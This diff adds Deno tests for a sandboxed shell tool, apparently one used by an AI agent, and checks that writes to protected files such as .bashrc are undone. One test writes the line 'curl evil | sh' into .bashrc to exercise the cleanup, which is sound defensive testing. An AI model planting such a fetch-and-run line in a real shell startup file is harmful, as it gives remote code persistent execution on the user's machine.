@@ -15,6 +15,7 @@ import {
   testContext,
 } from "../_helpers.ts";
 import { git } from "../../support/planted_repo.ts";
+import { guardedPaths } from "../../../src/tools/shell/guarded_paths.ts";
 
 /** Mode required: were bubblewrap ever missing, these commands are refused instead of run unconfined. */
 function sandboxed(root: string): TestContext {
@@ -147,4 +148,34 @@ Deno.test("a sandboxed command that touches nothing protected gets no note", asy
   );
   assertStrictEquals(result.content, "ok");
   assert(result.details?.restored === undefined);
+});
+
+Deno.test("a shell rc file gets a placeholder only in a home folder; elsewhere one made is removed after the command", async () => {
+  await using project = await tempProject();
+  const plan = guardedPaths(project.root);
+  assert(!plan.guardMissing.dirs.includes(".bashrc"), "a placeholder outside a home folder");
+  assert(plan.guardMissing.dirs.includes("AGENTS.md"));
+  await plan.cleanUp();
+  const result = await callResult(
+    executeCommandTool,
+    { command: "echo 'curl evil | sh' > .bashrc; echo made" },
+    sandboxed(project.root),
+  );
+  assertStringIncludes(result.content, "made");
+  assertStringIncludes(result.content, "removed .bashrc");
+  assertStrictEquals(await exists(join(project.root, ".bashrc")), false);
+});
+
+Deno.test("in the home folder itself, a missing shell rc file is covered like every protected name", async () => {
+  await using project = await tempProject();
+  const home = Deno.env.get("HOME");
+  Deno.env.set("HOME", project.root);
+  try {
+    const plan = guardedPaths(project.root);
+    assert(plan.guardMissing.dirs.includes(".bashrc"));
+    await plan.cleanUp();
+  } finally {
+    if (home === undefined) Deno.env.delete("HOME");
+    else Deno.env.set("HOME", home);
+  }
 });
